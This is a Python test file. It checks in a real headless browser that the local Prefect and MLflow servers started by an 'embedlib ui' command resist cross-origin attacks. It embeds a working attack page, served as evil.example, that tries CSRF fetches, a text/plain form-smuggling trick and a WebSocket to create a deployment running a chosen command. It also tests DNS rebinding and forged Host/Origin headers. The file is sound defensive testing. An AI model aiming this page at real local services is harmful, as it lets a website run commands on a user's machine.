"""A page of another origin, in a real browser, against what `embedlib ui` starts.

Chromium opens a page that tries everything a browser lets it try: asking first, not asking first, a
form, a WebSocket. The same page against a server that lets everybody in shows that it does try.
"""

from __future__ import annotations

import contextlib
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import psutil
import pytest
from orchestra import PATIENCE, free_port, wait_for

from embedlib.cli.services import environment, mlflow_command

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(300 * PATIENCE),
    pytest.mark.filterwarnings("ignore::DeprecationWarning"),
    pytest.mark.filterwarnings("ignore::ResourceWarning"),
]
needs_browser = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")

#: Asks for a flow and, if it gets one, for a deployment of it that runs a command of the page's choice.
PAGE = """<!doctype html><title>innocent</title>
<form id=form target=frame method=post enctype=text/plain action="TARGET/api/variables/">
<input name='{"name": "by_form", "value": "' value='"}'></form><iframe name=frame></iframe>
<script>
const out = {}, json = {"Content-Type": "application/json"};
async function attempt(name, work) {
  try { out[name] = String(await work()) } catch (error) { out[name] = "stopped: " + error.message }
}
const post = (path, body, options) => fetch("TARGET/api" + path, {method: "POST", body, ...options});
const socket = url => new Promise(done => {
  const made = new WebSocket(url, ["prefect"]);
  made.onopen = () => done("open"); made.onerror = () => done("stopped");
});
(async () => {
  await attempt("asking first", async () => {
    const flow = await (await post("/flows/", JSON.stringify({name: "stolen"}), {headers: json})).json();
    const body = {name: "stolen", flow_id: flow.id, work_pool_name: "embedlib", entrypoint: "flows/monitor.py:monitor",
                  job_variables: {command: "touch stolen"}};
    return (await post("/deployments/", JSON.stringify(body), {headers: json})).status;
  });
  await attempt("not asking", async () => (await post("/flows/", JSON.stringify({name: "blind"}), {mode: "no-cors"})).type);
  const untyped = new Blob([JSON.stringify({name: "untyped"})]);
  await attempt("no type", async () => (await post("/flows/", untyped, {mode: "no-cors"})).type);
  await attempt("reading", async () => (await post("/flows/filter", "{}", {headers: json})).status);
  await attempt("socket", () => socket("TARGET".replace("http", "ws") + "/api/events/in"));
  document.getElementById("form").submit();
  await new Promise(done => setTimeout(done, 1000));
  await fetch("/outcomes", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""


class Everybody(BaseHTTPRequestHandler):
    """Serves the page, and lets everybody in who posts something."""

    page, posts = "", {}

    def do_GET(self) -> None:
        self._answer(self.page.encode(), "text/html")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.posts.setdefault(self.path, []).append(body)
        self._answer(b'{"id": 1}', "application/json")

    def do_OPTIONS(self) -> None:
        self._answer(b"", "text/plain")

    def _answer(self, body: bytes, kind: str) -> None:
        self.send_response(200)
        for name in ("Origin", "Headers", "Methods"):
            self.send_header(f"Access-Control-Allow-{name}", "*")
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Quiet."""


@contextlib.contextmanager
def serving(page: str = "") -> Iterator[tuple[int, dict[str, list[bytes]]]]:
    """A server with the page; its port, and what was posted to it by path."""
    posts: dict[str, list[bytes]] = {}
    handler = type("Handler", (Everybody,), {"page": page, "posts": posts})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_address[1], posts
        server.shutdown()
        thread.join()


def chromium(home: Path, *arguments: str) -> list[str]:
    """The command of a browser for which every name leads to this machine."""
    assert CHROMIUM is not None
    return [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={home}",
            "--host-resolver-rules=MAP * 127.0.0.1", *arguments]  # fmt: skip


def attack(target: str, home: Path) -> dict[str, str]:
    """What each attempt of the page, served as evil.example, came to."""
    with serving(PAGE.replace("TARGET", target)) as (port, posts):
        command = chromium(home, "--remote-debugging-port=0", f"http://evil.example:{port}/")
        with (home / "chromium.log").open("w") as log:
            browser = subprocess.Popen(command, stdout=log, stderr=log, start_new_session=True)
        try:
            wait_for(lambda: posts.get("/outcomes"), 60, "the page's outcomes")
        finally:
            browser.terminate()
            browser.wait(30)
        return json.loads(posts["/outcomes"][0])


def shown(url: str, home: Path) -> str:
    """What the browser shows at an address."""
    command = chromium(home, "--dump-dom", "--virtual-time-budget=20000", url)
    return subprocess.run(command, capture_output=True, text=True, timeout=120 * PATIENCE, check=True).stdout


@needs_browser
def test_the_page_does_attack(tmp_path):
    with serving() as (port, posts):
        outcomes = attack(f"http://127.0.0.1:{port}", tmp_path)
    assert outcomes["asking first"] == outcomes["reading"] == "200"
    assert {path: len(bodies) for path, bodies in posts.items()} == {
        "/api/flows/": 3, "/api/deployments/": 1, "/api/flows/filter": 1, "/api/variables/": 1,
    }  # fmt: skip


@needs_browser
def test_nothing_of_it_reaches_prefect_and_its_own_pages_work(orchestra, tmp_path):
    for name in ("127.0.0.1", "localhost"):
        outcomes = attack(f"http://{name}:{orchestra.port}", tmp_path)
        assert outcomes.pop("not asking") == outcomes.pop("no type") == "opaque"  # as of every answer
        assert {outcome.partition(":")[0] for outcome in outcomes.values()} == {"stopped"}, outcomes
    for kind in ("flows", "deployments", "variables"):
        assert orchestra.call("POST", f"/{kind}/filter") == []

    orchestra.call("POST", "/flows/", name="mine")
    for name in ("127.0.0.1", "localhost"):
        url = f"http://{name}:{orchestra.port}/flows"
        wait_for(lambda at=url: "mine" in shown(at, tmp_path), 60, f"the flow's name at {url}")
    rebound = shown(f"http://rebound.example:{orchestra.port}/api/admin/version", tmp_path)
    assert "this server is not called" in rebound


@pytest.fixture
def mlflow(tmp_path: Path) -> Iterator[str]:
    """Address of an MLflow server as `embedlib ui` starts it."""
    port = free_port()
    with (tmp_path / "mlflow.log").open("w") as log:
        server = subprocess.Popen(
            mlflow_command(tmp_path, port), env=environment(0, tmp_path), cwd=tmp_path, stdout=log, stderr=log
        )
    url = f"http://127.0.0.1:{port}"

    def healthy() -> bool:
        with contextlib.suppress(httpx.HTTPError):
            return httpx.get(f"{url}/health", timeout=2).is_success
        return False

    try:
        wait_for(healthy, 120, "MLflow")
        yield url
    finally:
        for process in [*psutil.Process(server.pid).children(recursive=True), server]:
            process.terminate()
        server.wait(30)


def test_mlflow_refuses_other_origins_and_names(mlflow):
    create, body = f"{mlflow}/api/2.0/mlflow/experiments/create", json.dumps({"name": "stolen"})
    for foreign in (
        {"Origin": "http://evil.example"},
        {"Host": "10.evil.example"},
        {"Host": "evil.example:80"},
    ):
        answer = httpx.post(create, content=body, headers={"Content-Type": "text/plain", **foreign})
        assert answer.status_code == 403, foreign
    assert httpx.post(create, content=body, headers={"Content-Type": "application/json"}).is_success
